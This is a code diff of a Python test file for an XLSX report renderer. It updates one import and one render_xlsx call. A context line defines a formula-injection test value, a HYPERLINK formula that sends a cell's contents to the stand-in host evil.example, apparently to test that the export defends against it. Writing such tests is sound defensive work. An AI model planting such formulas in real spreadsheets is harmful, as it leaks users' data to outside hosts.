@@ -8,8 +8,7 @@ from typing import Any
 import openpyxl
 import pytest
 
-from appliance.adapters.documents import render_xlsx
-from appliance.adapters.documents.xlsx import CELL_LIMIT
+from appliance.adapters.workbook import CELL_LIMIT, render_xlsx
 from appliance.foundation.canonical_json import sha256_hex
 from appliance.services.reports.document import ReportDocument, build_report_document
 from tests.adapters.documents.hostile_report import report_with
@@ -20,7 +19,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def book_of(report: ReportDocument) -> Any:
-    return openpyxl.load_workbook(io.BytesIO(render_xlsx(report)))
+    return openpyxl.load_workbook(io.BytesIO(render_xlsx(report.as_document())))
 
 
 def rows(book: Any, sheet: str) -> list[dict[str, Any]]:
